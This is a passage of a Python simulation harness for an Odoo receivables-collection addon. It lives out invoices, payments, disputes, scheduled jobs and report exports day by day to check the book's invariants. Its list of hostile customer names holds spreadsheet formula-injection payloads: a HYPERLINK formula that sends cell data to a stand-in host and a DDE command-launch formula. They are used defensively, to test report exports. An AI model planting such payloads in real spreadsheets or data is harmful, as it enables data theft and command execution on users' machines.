"""A book of receivables lived day by day, to find what unit tests do not.

``CollectionSimulation(env, seed, days).run()`` builds two companies in different
currencies, collectors, a legal officer, managers, an accountant and customers (English,
Chinese, without email, with hostile names), then lives ``days`` days under a frozen
clock. Each day the users act through the addon's real entry points only (invoices,
payments, credit notes, bounced and misapplied payments, disputes, exclusions, contacts
and promises, escalations, letters, policy edits, leave, draft reviews, manual runs),
every job of ``data/ir_cron_data.xml`` runs in the file's order (the follow-up job in
small batches, sometimes killed between two of them), the reports are exported every
week, and the invariants of the book are checked.

Deterministic for a seed. In strict mode the first day with a broken invariant raises
AssertionError with the seed, the day and the story of the customers concerned; replay
it with ``./dev simulate --seed N --days D``. Otherwise the failures are collected.
"""

import base64
import html
import io
import random
import re
import traceback
from collections import Counter, defaultdict
from contextlib import contextmanager
from datetime import date, datetime, time, timedelta
from xml.etree import ElementTree

from freezegun import freeze_time
from openpyxl import load_workbook

from odoo import Command
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tools import SQL
from odoo.tools.misc import file_path
from odoo.tools.pdf import PdfFileReader

from ..models.res_company_jobs import COMPANY_JOBS
from .simulation_office import OFFICE_OUTCOMES, SimulationOffice
from .smtp_server import LoopbackSmtpServer

START = date(2026, 1, 5)
NOON = time(12, 0)  # the same date in every time zone the users live in
FOLLOWUP_BATCH = 3  # customers per call of the follow-up job: several calls a day
KILL_RATE = 0.3  # share of days on which the follow-up job dies between two batches
OVERLAP_RATE = 0.1  # share of days on which a manager runs follow-ups between two batches
TYPO_DATE = date(9999, 12, 31)
SAFE_FORMULA = re.compile(r"=(SUM\(\$?[A-Z]{1,3}\$?\d+:\$?[A-Z]{1,3}\$?\d+\)|0)")
USER_ERRORS = (UserError, ValidationError, AccessError)
# tables the book grows in, analyzed now and then (see _refresh_statistics)
BOOK_TABLES = (
    "account_move",
    "account_move_line",
    "account_partial_reconcile",
    "account_payment",
    "collection_case",
    "collection_followup",
    "collection_followup_invoice_rel",
    "collection_interaction",
    "collection_promise",
    "collection_charge",
    "collection_visit",
    "mail_activity",
    "mail_mail",
    "mail_message",
    "res_partner",
)

ENGLISH_NAMES = [
    "Alpha Trading Ltd",
    "Blue River Foods",
    "Cedar Logistics",
    "Delta Hardware Inc",
    "Evergreen Textiles",
    "Fulton & Sons",
    "Granite Works",
    "Harbor Imports",
    "Ironwood Supply",
    "Juniper Retail",
    "Keystone Tools",
    "Lakeside Dairy",
]
CHINESE_NAMES = [
    "北京贝塔科技有限公司",
    "上海东方贸易有限公司",
    "深圳华南电子有限公司",
    "广州南方物流有限公司",
    "杭州西湖丝绸有限公司",
    "成都天府食品有限公司",
    "苏州园林建材有限公司",
    "武汉长江机械有限公司",
    "南京金陵制药有限公司",
    "天津港湾进出口有限公司",
]
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1-2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
]
# units of the second currency for one unit of the first
RATES = {
    ("USD", "EUR"): 0.92,
    ("EUR", "USD"): 1.09,
    ("CNY", "USD"): 0.14,
    ("USD", "CNY"): 7.1,
    ("CNY", "EUR"): 0.13,
    ("EUR", "CNY"): 7.7,
}
# customer behaviour: (weight, chance to keep a promise, to keep part of it)
BEHAVIOURS = {
    "good": (40, 0.8, 0.1),
    "late": (30, 0.5, 0.25),
    "bad": (15, 0.2, 0.2),
    "disputer": (15, 0.4, 0.2),
}
OUTCOMES = {
    "reached": 28,
    "no_answer": 25,
    "promise": 22,
    "refused": 8,
    "dispute": 7,
    "wrong_contact": 5,
    "other": 5,
    **OFFICE_OUTCOMES,
}


class SimulationFailure(AssertionError):
    """An invariant of the book broke: the message tells the seed, day and story."""


class _Undo(Exception):
    """Raised inside a savepoint to roll it back on purpose (a killed job, a forbidden
    write that went through)."""


class CollectionSimulation(SimulationOffice):
    """Drive a book of receivables through ``days`` days and check it every day."""

    def __init__(self, env, seed, days, companies=None, start=START, strict=True, out=None):
        self.env = env
        self.su = env(su=True)
        self.cr = env.cr
        self.seed = seed
        self.days = days
        self.start = start
        self.strict = strict
        self.out = out
        self.rng = random.Random(seed)
        self.given_companies = companies
        self.day = start
        self.day_index = 0
        self.failures = []
        self.reported = set()
        self.pending_failures = []
        self.story = defaultdict(list)
        self.global_story = []
        self.counts = Counter()
        self.totals = Counter()
        self.agenda = defaultdict(list)
        self.disputes = {}  # invoice id -> end date (None: open-ended), as users set them
        self.excluded = set()
        self.review = {}  # draft follow-up id -> (day to review, send?)
        self.payments = []
        self.reversals = defaultdict(list)  # customer id -> days a payment was reversed
        self.paid_promises = set()  # (customer, company) that paid for a promise today
        self.watermarks = {"attachment": 0}
        self.checked_mails = set()
        self.customers = []
        self.profile = Counter()

    # ================================================================== running
    def run(self):
        """Set the world up, live the days, return the failures (strict: raise)."""
        with (
            LoopbackSmtpServer() as self.smtp,
            freeze_time(datetime.combine(self.start - timedelta(days=1), NOON)) as clock,
        ):
            self._setup()
            followup_class = self.env.registry["collection.followup"]
            had_batch = "BATCH_SIZE" in vars(followup_class)
            batch = getattr(followup_class, "BATCH_SIZE", None)
            followup_class.BATCH_SIZE = FOLLOWUP_BATCH
            try:
                for index in range(self.days):
                    self.day_index = index + 1
                    self.day = self.start + timedelta(days=index)
                    clock.move_to(datetime.combine(self.day, NOON))
                    self._live_day()
            finally:
                if had_batch:
                    followup_class.BATCH_SIZE = batch
                else:
                    del followup_class.BATCH_SIZE
        return self.failures

    def _live_day(self):
        self.counts = Counter()
        if self.day_index % 5 == 1:
            self._refresh_statistics()
        queries = self.cr.sql_log_count
        self._timed(self._review_drafts)
        self._business()
        self._timed(self._run_jobs)
        if self.day_index % 7 == 0 or self.day_index == self.days:
            self._timed(self._export_reports)
        self._timed(self._check_invariants)
        self.counts["queries"] = self.cr.sql_log_count - queries
        self.totals.update(self.counts)
        if self.out:
            self.out(self._summary_line())
        if self.pending_failures and self.strict:
            raise SimulationFailure(self._failure_report(self.pending_failures))
        self.pending_failures = []

    def _business(self):
        steps = [
            self._new_invoices,
            self._scheduled_payments,
            self._credit_notes,
            self._payment_reversals,
            self._disputes_and_exclusions,
            self._collectors_work,
            self._office_collectors,
            self._forbidden_writes,
            self._manager_work,
            self._office_managers,
            self._legal_work,
            self._office_legal,
            self._staff_changes,
        ]
        for step in steps:
            self._timed(step)

    def _refresh_statistics(self):
        """The whole book lives in one transaction, which autovacuum never sees: without
        statistics PostgreSQL takes its tables for empty and joins them in nested loops
        that grow with the square of the book. ANALYZE inside the transaction counts its
        own rows, as autovacuum would for a real book."""
        self.env.flush_all()
        for table in BOOK_TABLES:
            self.cr.execute(SQL("ANALYZE %s", SQL.identifier(table)))

    def _timed(self, step):
        """Run ``step``, adding its SQL queries to the profile of the run."""
        before = self.cr.sql_log_count
        step()
        self.profile[step.__name__] += self.cr.sql_log_count - before

    # ================================================================== setup
    def _setup(self):
        self._setup_companies()
        self._setup_languages_and_currencies()
        self._setup_users()
        self._setup_configuration()
        self._setup_mail_server()
        self._setup_customers()
        self._setup_office()
        self._setup_opening_book()
        self.crons = self._cron_order()

    def _setup_companies(self):
        if self.given_companies:
            self.company_a, self.company_b = self.given_companies[0], self.given_companies[1]
        else:
            self.company_a = self.su.company
            self.company_b = self._create_company()
        self.companies = self.company_a | self.company_b
        if self.company_a.currency_id == self.company_b.currency_id:
            other = "CNY" if self.company_a.currency_id.name != "CNY" else "USD"
            if self.su["account.move.line"].search_count(
                [("company_id", "=", self.company_b.id)], limit=1
            ):
                raise SimulationFailure("the two companies share a currency and have entries")
            self.company_b.currency_id = self._currency(other)
        self.sale_journal = {}
        for company in self.companies:
            self.sale_journal[company] = self.su["account.journal"].search(
                [("company_id", "=", company.id), ("type", "=", "sale")], limit=1
            )

    def _create_company(self):
        company = self.su["res.company"].create(
            {"name": "Sim Shanghai Trading", "currency_id": self._currency("CNY").id}
        )
        self.su["account.chart.template"].try_loading(
            "generic_coa", company=company, install_demo=False
        )
        return company

    def _currency(self, code):
        currency = (
            self.su["res.currency"]
            .with_context(active_test=False)
            .search([("name", "=", code)], limit=1)
        )
        if not currency.active:
            currency.active = True
        return currency

    def _setup_languages_and_currencies(self):
        lang = self.su["res.lang"].with_context(active_test=False).search([("code", "=", "zh_CN")])
        if not lang.active:
            lang.active = True
            self.su["ir.module.module"]._load_module_terms(["collection_management"], ["zh_CN"])
        self.foreign = {}
        for company in self.companies:
            own = company.currency_id.name
            code = "EUR" if own != "EUR" else "USD"
            currency = self._currency(code)
            self.foreign[company] = currency
            base = RATES.get((own, code), 1.3)
            rates = []
            for month in range(-5, self.days // 30 + 2):
                day = self.start + timedelta(days=30 * month)
                rates.append(
                    {
                        "currency_id": currency.id,
                        "company_id": company.id,
                        "name": day,
                        "rate": round(base * self.rng.uniform(0.95, 1.05), 6),
                    }
                )
            self.su["res.currency.rate"].create(rates)

    def _user(self, login, name, groups, companies, lang="en_US", tz="Asia/Shanghai"):
        return (
            self.su["res.users"]
            .with_context(no_reset_password=True)
            .create(
                {
                    "login": login,
                    "name": name,
                    "email": f"{login}@example.com",
                    "groups_id": [
                        Command.set([self.su.ref(xmlid).id for xmlid in groups.split(",")])
                    ],
                    "company_id": companies[0].id,
                    "company_ids": [Command.set(companies.ids)],
                    "lang": lang,
                    "tz": tz,
                }
            )
        )

    def _setup_users(self):
        a, b, both = self.company_a, self.company_b, self.company_a | self.company_b
        collector = "base.group_user,collection_management.group_collection_collector"
        # office staff get "Contact Creation", as Odoo's default user template gives it
        office = "base.group_partner_manager,"
        self.collectors = {
            "Li Wei": self._user("sim.li", "Li Wei", collector, a, "zh_CN"),
            "Sarah Jones": self._user("sim.sarah", "Sarah Jones", collector, a, tz="Europe/London"),
            "Wang Fang": self._user("sim.wang", "Wang Fang", collector, a, "zh_CN"),
            "Zhang Min": self._user("sim.zhang", "Zhang Min", collector, b, "zh_CN"),
            "Tom Baker": self._user("sim.tom", "Tom Baker", collector, both, tz="America/New_York"),
        }
        self.leaver = self.collectors["Wang Fang"]
        self.legal = self._user(
            "sim.legal", "Liu Lawyer", office + "collection_management.group_collection_legal", both
        )
        manager = (
            office + "collection_management.group_collection_manager,account.group_account_invoice"
        )
        self.manager = self._user("sim.manager", "Mei Manager", manager, both)
        self.manager_zh = self._user(
            "sim.manager.zh", "陈经理", manager, b | a, "zh_CN", tz="Asia/Shanghai"
        )
        self.accountant = self._user(
            "sim.accountant", "Ann Accountant", office + "account.group_account_invoice", both
        )

    def _setup_mail_server(self):
        """The outgoing server: a real SMTP server on loopback that takes every email."""
        self.su["ir.mail_server"].create(
            {
                "name": "Sim loopback",
                "smtp_host": "127.0.0.1",
                "smtp_port": self.smtp.port,
                "smtp_encryption": "none",
                "sequence": 0,
            }
        )

    def _setup_configuration(self):
        a, b = self.company_a, self.company_b
        a.write(
            {
                "collection_case_min_amount": 300,
                "collection_case_min_days": 10,
                "collection_promise_grace_days": 3,
            }
        )
        b.write(
            {
                "collection_case_min_amount": 2000,
                "collection_case_min_days": 15,
                "collection_promise_grace_days": 2,
                "collection_block_held_invoices": True,
            }
        )
        self.strict_policy = a.collection_policy_id.copy({"name": "Sim strict terms"})
        for level, delay in zip(
            self.strict_policy._levels_by_delay(), (-3, 3, 14, 30, 60), strict=False
        ):
            level.delay_days = delay
        users_a = [u for u in self.collectors.values() if a in u.company_ids]
        users_b = [u for u in self.collectors.values() if b in u.company_ids]
        self.su["collection.assignment.rule"].create(
            [
                {
                    "name": "Sim A: least loaded",
                    "company_id": a.id,
                    "method": "least_loaded",
                    "user_ids": [Command.set([u.id for u in users_a])],
                },
                {
                    "name": "Sim B: round robin",
                    "company_id": b.id,
                    "method": "round_robin",
                    "user_ids": [Command.set([u.id for u in users_b])],
                },
            ]
        )
        self.doomed_reason = self.su["collection.dispute.reason"].create(
            {"name": "Sim: price disagreement"}
        )
        self.reason_delete_day = self.rng.randint(15, 45)
        # from these days on, the next promise typed is dated 9999 by mistake
        self.typo_days = {self.rng.randint(5, 40) + offset for offset in range(0, self.days, 40)}
        self.leaver_day = max(self.days // 2, 2)

    def _setup_customers(self):
        rng = self.rng
        names = rng.sample(ENGLISH_NAMES, 6) + rng.sample(CHINESE_NAMES, 6) + HOSTILE_NAMES
        rng.shuffle(names)
        a, b = self.company_a, self.company_b
        collectors_a = [u for u in self.collectors.values() if a in u.company_ids]
        for index, name in enumerate(names):
            companies = [a, b] if index < 4 else [a] if index < 11 else [b]
            chinese = name in CHINESE_NAMES
            lang = "zh_CN" if chinese != (rng.random() < 0.1) else "en_US"
            if name in HOSTILE_NAMES:
                lang = "en_US"
            email = f"ar{index}@customer{index}.example.com" if rng.random() < 0.85 else False
            partner = self.su["res.partner"].create(
                {"name": name, "is_company": True, "email": email, "lang": lang}
            )
            contact = None
            if rng.random() < 0.3:
                contact = self.su["res.partner"].create(
                    {
                        "name": "Accounts payable",
                        "parent_id": partner.id,
                        "type": "invoice",
                        "email": email,
                    }
                )
            behaviour = rng.choices(
                list(BEHAVIOURS), weights=[w for w, _k, _p in BEHAVIOURS.values()]
            )[0]
            currency = {}
            for company in companies:
                foreign = rng.random() < 0.25
                currency[company] = self.foreign[company] if foreign else company.currency_id
            if a in companies and rng.random() < 0.3:
                partner.with_company(a).collector_id = rng.choice(collectors_a)
            if a in companies and rng.random() < 0.25:
                partner.with_company(a).collection_policy_id = self.strict_policy
            customer = {
                "partner": partner,
                "contact": contact,
                "companies": companies,
                "currency": currency,
                "behaviour": behaviour,
                "weekday": rng.randint(0, 4),  # the customer's weekly payment run
            }
            self.customers.append(customer)
            self._log(partner, f"customer of {', '.join(c.name for c in companies)}, {behaviour}")
        self.by_partner = {c["partner"].id: c for c in self.customers}
        # the invariants of the book concern these customers (a database may hold others)
        self.customer_ids = list(self.by_partner)

    def _setup_opening_book(self):
        """Invoices of the last months, some partly paid, so that day one has a book."""
        for customer in self.customers:
            for company in customer["companies"]:
                for _index in range(1 + (self.rng.random() < 0.4)):
                    invoice_date = self.start - timedelta(days=self.rng.randint(5, 110))
                    self._create_invoice(customer, company, invoice_date)
        self._scheduled_payments(before=self.start)

    def _cron_order(self):
        """The jobs of ir_cron_data.xml, in the file's order; a job that runs per
        company is the job of each company of the book, in the companies' order."""
        tree = ElementTree.parse(file_path("collection_management/data/ir_cron_data.xml"))
        per_company = {xmlid: key for key, xmlid, _method, _time in COMPANY_JOBS}
        crons = []
        for record in tree.iter("record"):
            if record.get("model") != "ir.cron":
                continue
            xmlid = f"collection_management.{record.get('id')}"
            if xmlid not in per_company:
                crons.append(self.su.ref(xmlid))
                continue
            for company in self.companies.sorted("id"):
                cron = self.su["ir.cron"].search(
                    [
                        ("collection_company_id", "=", company.id),
                        ("collection_job", "=", per_company[xmlid]),
                    ]
                )
                if not cron:
                    raise SimulationFailure(f"company {company.name} has no job {xmlid}")
                crons.append(cron)
        return crons

    # ================================================================== helpers
    def _as(self, user, model, company=None):
        """``model`` as ``user`` working in ``company`` (their other companies enabled)."""
        companies = user.company_ids.filtered(lambda c: c in self.companies)
        if company:
            companies = company | (companies - company)
        return self.env[model].with_user(user).with_context(allowed_company_ids=companies.ids)

    def _query(self, query, *args):
        self.env.flush_all()
        self.cr.execute(SQL(query, *args))
        return self.cr.fetchall()

    def _log(self, partner, text):
        partner_id = partner if isinstance(partner, int) else partner.commercial_partner_id.id
        self.story[partner_id].append(f"{self.day} {text}")

    def _log_global(self, text):
        self.global_story.append(f"{self.day} {text}")

    def _attempt(self, partner, label, action):
        """A user action: refused with a UserError is fine (logged), a crash is not.
        Returns the action's result (True when it returns nothing), or None when it was
        refused or crashed."""
        try:
            with self.cr.savepoint():
                result = action()
        except USER_ERRORS as error:
            message = f"{label}: refused ({str(error.args[0])[:160]})"
            if partner:
                self._log(partner, message)
            else:
                self._log_global(message)
            self.counts["refused"] += 1
            return None
        except Exception as error:  # an entry point that crashes is a defect
            self._fail(
                "no user action crashes",
                f"{label} raised {error!r}\n{traceback.format_exc(limit=6)}",
                [partner] if partner else [],
                key=("crash", label, type(error).__name__),
            )
            return None
        if partner:
            self._log(partner, label)
        return True if result is None else result

    def _open_invoices(self, company=None, partner=None):
        domain = [
            ("move_type", "=", "out_invoice"),
            ("state", "=", "posted"),
            ("payment_state", "in", ("not_paid", "partial")),
            ("company_id", "in", (company or self.companies).ids),
        ]
        if partner:
            domain.append(("commercial_partner_id", "=", partner.id))
        return self.su["account.move"].search(domain, order="invoice_date_due, id")

    @staticmethod
    def _doc(record):
        """An invoice or payment by name and company: each company numbers its own."""
        return f"{record.name or record.id} [{record.company_id.name}]"

    def _money(self, amount, currency):
        return f"{currency.round(amount):,.2f} {currency.name}"

    # ================================================================== invoices
    def _create_invoice(self, customer, company, invoice_date):
        currency = customer["currency"][company]
        scale = 7 if currency.name == "CNY" else 1
        amount = round(min(max(self.rng.lognormvariate(7, 0.8), 60), 20000) * scale, 2)
        term = self.rng.choice([0, 15, 30, 30, 45, 60])
        journal = self.sale_journal[company]
        partner = customer["contact"] or customer["partner"]
        if customer["contact"] and self.rng.random() < 0.5:
            partner = customer["partner"]
        vals = {
            "move_type": "out_invoice",
            "partner_id": partner.id,
            "journal_id": journal.id,
            "invoice_date": invoice_date,
            "invoice_date_due": invoice_date + timedelta(days=term),
            "currency_id": currency.id,
            "invoice_line_ids": [
                Command.create(
                    {
                        "name": "Goods",
                        "quantity": 1,
                        "price_unit": amount,
                        "account_id": journal.default_account_id.id,
                        "tax_ids": [Command.clear()],
                    }
                )
            ],
        }
        moves = self._as(self.accountant, "account.move", company)
        move = moves.create(vals)
        posted = self._attempt(None, "post", move.action_post)
        label = f"invoice {self._doc(move)} {self._money(amount, currency)}"
        if posted is None and move.state == "draft":
            # credit hold: a manager overrides it or the invoice is dropped
            if self.rng.random() < 0.5:
                override = move.with_user(self.manager).with_context(
                    allowed_company_ids=moves.env.context["allowed_company_ids"]
                )
                self._attempt(
                    customer["partner"],
                    f"manager: {label} posted over the credit hold",
                    override.action_collection_post_override_hold,
                )
            if move.state == "draft":
                self._log(customer["partner"], f"accountant: {label} refused (credit hold)")
                move.unlink()
                return None
        else:
            self._log(customer["partner"], f"accountant: {label} due {move.invoice_date_due}")
        self.counts["invoices"] += 1
        self._plan_invoice(move, customer["behaviour"])
        return move

    def _plan_invoice(self, move, behaviour):
        """When the customer will pay this invoice: in its weekly payment run, on time,
        late, in instalments or never."""
        rng = self.rng
        delay = {
            "good": rng.randint(-5, 6),
            "late": rng.randint(8, 50),
            "bad": rng.randint(40, 160) if rng.random() < 0.6 else None,
            "disputer": rng.randint(15, 70),
        }[behaviour]
        if delay is None:
            return
        pay_day = max(move.invoice_date_due + timedelta(days=delay), move.invoice_date)
        if rng.random() < 0.2:
            self.agenda[pay_day].append(("pay", move.id, rng.uniform(0.3, 0.7)))
            pay_day += timedelta(days=rng.randint(10, 35))
        weekday = self.by_partner[move.commercial_partner_id.id]["weekday"]
        pay_day += timedelta(days=(weekday - pay_day.weekday()) % 7)
        self.agenda[pay_day].append(("pay", move.id, None))

    def _new_invoices(self):
        for company in self.companies:
            for _index in range(self.rng.choices([0, 1, 2], weights=[6, 3, 1])[0]):
                customer = self.rng.choice([c for c in self.customers if company in c["companies"]])
                invoice_date = self.day
                if self.rng.random() < 0.1:
                    invoice_date -= timedelta(days=self.rng.randint(1, 20))  # entered late
                self._create_invoice(customer, company, invoice_date)

    # ================================================================== payments
    def _scheduled_payments(self, before=None):
        """Payments the customers planned for today (or, at setup, for every day before
        ``before``): invoices paid in full in one payment per customer, company and
        currency; instalments, promises and the rest one by one."""
        if before:
            days = sorted(d for d in self.agenda if d < before)
        else:
            days = [self.day]
        for day in days:
            runs = defaultdict(list)
            for item in self.agenda.pop(day, []):
                if item[0] == "pay" and item[2] is None:
                    move = self.su["account.move"].browse(item[1])
                    runs[(move.commercial_partner_id, move.company_id, move.currency_id)].append(
                        move
                    )
                else:
                    self._agenda_item(item, day)
            for moves in runs.values():
                self._pay_run(self.su["account.move"].concat(*moves), day)

    def _agenda_item(self, item, day):
        kind = item[0]
        if kind == "pay":
            self._pay_invoice(self.su["account.move"].browse(item[1]), item[2], day)
        elif kind == "promise":
            self._pay_promise(*item[1:], day)
        elif kind == "reassign":
            self._reassign_payment(self.su["account.payment"].browse(item[1]))
        elif kind == "dispute":
            self._dispute(self.su["account.move"].browse(item[1]), "after a call")

    def _pay_invoice(self, move, share, day, amount=None, why="pays"):
        if move.state != "posted" or move.currency_id.is_zero(move.amount_residual):
            return None
        residual = move.amount_residual
        if amount is None:
            amount = residual if share is None else move.amount_total * share
            if share is None and self.rng.random() < 0.04:
                amount = residual * 1.1  # rounds up: the rest stays as a credit
        amount = move.currency_id.round(min(amount, residual * 1.1))
        if amount <= 0:
            return None
        register = self._as(self.accountant, "account.payment.register", move.company_id)
        wizard = register.with_context(active_model="account.move", active_ids=move.ids)
        label = f"{why} {self._money(amount, move.currency_id)} on {self._doc(move)}"
        payments = self._attempt(
            move.commercial_partner_id,
            f"customer {label}",
            lambda: wizard.create({"amount": amount, "payment_date": day})._create_payments(),
        )
        if payments:
            self.counts["payments"] += 1
            self.payments.extend((day, payment.id) for payment in payments)
        return payments

    def _pay_run(self, moves, day):
        """The customer's payment run settles these invoices at once."""
        moves = moves.filtered(
            lambda m: m.state == "posted" and not m.currency_id.is_zero(m.amount_residual)
        )
        if len(moves) <= 1:
            for move in moves:
                self._pay_invoice(move, None, day)
            return
        register = self._as(self.accountant, "account.payment.register", moves.company_id)
        wizard = register.with_context(active_model="account.move", active_ids=moves.ids)
        total = sum(moves.mapped("amount_residual"))
        payments = self._attempt(
            moves.commercial_partner_id,
            f"customer pays {self._money(total, moves.currency_id)} on "
            + ", ".join(self._doc(move) for move in moves),
            lambda: wizard.create({"payment_date": day, "group_payment": True})._create_payments(),
        )
        if payments:
            self.counts["payments"] += 1
            self.payments.extend((day, payment.id) for payment in payments)

    def _pay_promise(self, partner_id, company_id, amount, promise_id, day):
        """The customer pays (part of) a promise on its oldest invoices."""
        partner = self.su["res.partner"].browse(partner_id)
        company = self.su["res.company"].browse(company_id)
        left = amount
        self.paid_promises.add((partner, company))
        for move in self._open_invoices(company, partner)[:3]:
            residual = move.amount_residual_signed
            if left <= 0 or residual <= 0:
                break
            take = min(left, residual)
            in_currency = move.amount_residual * take / residual
            self._pay_invoice(move, None, day, in_currency, f"pays for promise {promise_id}")
            left -= take

    def _credit_notes(self):
        if self.rng.random() > 0.12:
            return
        invoices = self._open_invoices()
        if not invoices:
            return
        invoice = self.rng.choice(invoices)
        share = self.rng.choice([0.1, 0.25, 0.5, 1.0])
        amount = invoice.currency_id.round(invoice.amount_residual * share)
        if amount <= 0:
            return
        journal = self.sale_journal[invoice.company_id]
        moves = self._as(self.accountant, "account.move", invoice.company_id)
        refund = moves.create(
            {
                "move_type": "out_refund",
                "partner_id": invoice.partner_id.id,
                "journal_id": journal.id,
                "invoice_date": self.day,
                "currency_id": invoice.currency_id.id,
                "invoice_line_ids": [
                    Command.create(
                        {
                            "name": f"Credit on {invoice.name}",
                            "quantity": 1,
                            "price_unit": amount,
                            "account_id": journal.default_account_id.id,
                            "tax_ids": [Command.clear()],
                        }
                    )
                ],
            }
        )
        partner = invoice.commercial_partner_id
        label = f"credit note {self._money(amount, invoice.currency_id)}"
        if self._attempt(partner, f"accountant: {label} posted", refund.action_post) is None:
            return
        self.counts["credit_notes"] += 1
        if self.rng.random() < 0.8:
            line = refund.line_ids.filtered(
                lambda line: line.account_id.account_type == "asset_receivable"
            )
            own = invoice.with_env(moves.env)
            self._attempt(
                partner,
                f"accountant: credit note applied to {self._doc(invoice)}",
                lambda: own.js_assign_outstanding_line(line.id),
            )

    def _payment_reversals(self):
        """A cheque bounces (the payment is cancelled) or a payment was put on the wrong
        invoice (taken off it, put back on another one a few days later)."""
        if self.rng.random() > 0.08:
            return
        recent = [pid for day, pid in self.payments if (self.day - day).days <= 30]
        payments = (
            self.su["account.payment"]
            .browse(recent)
            .filtered(lambda p: p.state in ("paid", "in_process") and p.reconciled_invoice_ids)
        )
        if not payments:
            return
        payment = self.rng.choice(payments.sorted("id"))
        partner = payment.partner_id.commercial_partner_id
        if self.rng.random() < 0.5:
            # "Reverse Entry" on the payment's journal entry: off the invoices, cancelled
            reversal = self._as(self.accountant, "account.move.reversal", payment.company_id)
            reversal = reversal.with_context(
                active_model="account.move", active_ids=payment.move_id.ids
            )
            values = {
                "journal_id": payment.move_id.journal_id.id,
                "date": self.day,
                "reason": "Cheque bounced",
            }
            self._attempt(
                partner,
                f"accountant: payment {self._doc(payment)} bounced (entry reversed)",
                lambda: reversal.create(values).refund_moves(),
            )
            self.counts["reversals"] += 1
            self.reversals[partner.id].append(self.day)
            return
        invoice = payment.reconciled_invoice_ids[:1]
        partial = payment.move_id.line_ids.matched_debit_ids.filtered(
            lambda p: p.debit_move_id.move_id == invoice
        )[:1]
        if not partial:
            return
        own_invoice = self._as(self.accountant, "account.move", invoice.company_id).browse(
            invoice.id
        )
        self._attempt(
            partner,
            f"accountant: payment {self._doc(payment)} taken off {invoice.name}",
            lambda: own_invoice.js_remove_outstanding_partial(partial.id),
        )
        self.counts["reversals"] += 1
        self.reversals[partner.id].append(self.day)
        when = self.day + timedelta(days=self.rng.randint(1, 6))
        self.agenda[when].append(("reassign", payment.id))

    def _reassign_payment(self, payment):
        line = payment.move_id.line_ids.filtered(
            lambda line: line.account_id.account_type == "asset_receivable" and not line.reconciled
        )[:1]
        if payment.state == "canceled" or not line:
            return
        partner = payment.partner_id.commercial_partner_id
        invoices = self._open_invoices(payment.company_id, partner).filtered(
            lambda m: m.currency_id == payment.currency_id
        )
        if not invoices:
            return
        invoice = self._as(self.accountant, "account.move", payment.company_id)
        invoice = invoice.browse(invoices[0].id)
        self._attempt(
            partner,
            f"accountant: payment {self._doc(payment)} put on {invoices[0].name}",
            lambda: invoice.js_assign_outstanding_line(line.id),
        )

    # ================================================================== disputes
    def _dispute(self, invoice, why):
        if invoice.id in self.disputes or invoice.state != "posted":
            return
        reasons = self.su["collection.dispute.reason"].search([])
        if not reasons:
            return
        reason = self.rng.choice(reasons)
        end = None if self.rng.random() < 0.3 else self.day + timedelta(self.rng.randint(3, 25))
        own = self._as(self.accountant, "account.move", invoice.company_id).browse(invoice.id)
        done = self._attempt(
            invoice.commercial_partner_id,
            f"accountant: {self._doc(invoice)} disputed ({reason.name}, until {end}) {why}",
            lambda: own.write(
                {
                    "collection_dispute_reason_id": reason.id,
                    "collection_dispute_user_id": self.accountant.id,
                    "collection_dispute_end_date": end or False,
                }
            ),
        )
        if done is not None:
            self.disputes[invoice.id] = end
            self.counts["disputes"] += 1

    def _disputes_and_exclusions(self):
        rng = self.rng
        invoices = self._open_invoices()
        if not invoices:
            return
        if rng.random() < 0.15:
            self._dispute(rng.choice(invoices), "by the customer's letter")
        # a formal demand waiting for review is often answered with a dispute
        demanded = self.su["collection.followup"].search([("state", "=", "draft")]).invoice_ids
        demanded = demanded.filtered(lambda m: m in invoices and m.id not in self.disputes)
        if demanded and rng.random() < 0.3:
            self._dispute(rng.choice(demanded.sorted("id")), "in answer to a reminder")
        if self.disputes and rng.random() < 0.08:
            invoice = self.su["account.move"].browse(rng.choice(sorted(self.disputes)))
            own = self._as(self.accountant, "account.move", invoice.company_id).browse(invoice.id)
            if (
                self._attempt(
                    invoice.commercial_partner_id,
                    f"accountant: dispute on {self._doc(invoice)} released",
                    own.action_collection_release_dispute,
                )
                is not None
            ):
                self.disputes.pop(invoice.id, None)
        if rng.random() < 0.07:
            invoice = rng.choice(invoices)
            exclude = invoice.id not in self.excluded
            own = self._as(self.accountant, "account.move", invoice.company_id).browse(invoice.id)
            verb = "excluded from" if exclude else "back in"
            if (
                self._attempt(
                    invoice.commercial_partner_id,
                    f"accountant: {self._doc(invoice)} {verb} follow-ups",
                    lambda: own.write({"collection_exclude": exclude}),
                )
                is not None
            ):
                (self.excluded.add if exclude else self.excluded.discard)(invoice.id)

    # ================================================================== collectors
    def _available_collectors(self):
        return [
            user
            for user in self.collectors.values()
            if user.active and not user._collection_is_absent(self.day)
        ]

    def _collectors_work(self):
        self._thank_payers()
        budget = self.rng.choice([0, 1, 1, 2])
        collectors = self._available_collectors()
        self.rng.shuffle(collectors)
        for collector in collectors:
            count = min(self.rng.choice([0, 1, 1, 2]), budget)
            budget -= count
            if not count:
                continue
            cases = self._as(collector, "collection.case").search(
                [("is_closed", "=", False)], limit=8
            )
            for _index in range(count):
                if cases:
                    self._log_contact(collector, self.rng.choice(cases))

    def _thank_payers(self):
        """A customer paid for a promise today: its collector often calls the same day,
        checks the promises and asks when the rest comes."""
        paid, self.paid_promises = self.paid_promises, set()
        available = self._available_collectors()
        for partner, company in sorted(paid, key=lambda key: (key[0].id, key[1].id)):
            case = self.su["collection.case"].search(
                [("partner_id", "=", partner.id), ("company_id", "=", company.id)],
                order="is_closed, id desc",
                limit=1,
            )
            if case.is_closed or case.collector_id not in available or self.rng.random() < 0.5:
                continue
            own = self._as(case.collector_id, "collection.case", company).browse(case.id)
            self._log_contact(case.collector_id, own, checks=True)

    def _log_contact(self, collector, case, checks=False):
        rng = self.rng
        if case.promise_open_count and (checks or rng.random() < 0.4):
            # before calling, the collector checks whether today's money kept a promise
            self._attempt(
                case.partner_id,
                f"{collector.name}: evaluates the promises of {case.name}",
                case.action_evaluate_promises,
            )
        outcome = rng.choices(list(OUTCOMES), weights=list(OUTCOMES.values()))[0]
        outcome = self._office_outcome(case, outcome)
        values = {
            "case_id": case.id,
            "channel": rng.choice(["call", "call", "email", "visit", "sms"]),
            "outcome": outcome,
            "note": rng.choice(["", "Spoke to AP", "财务说下周付款", "Left a message"]),
        }
        if rng.random() < 0.4:
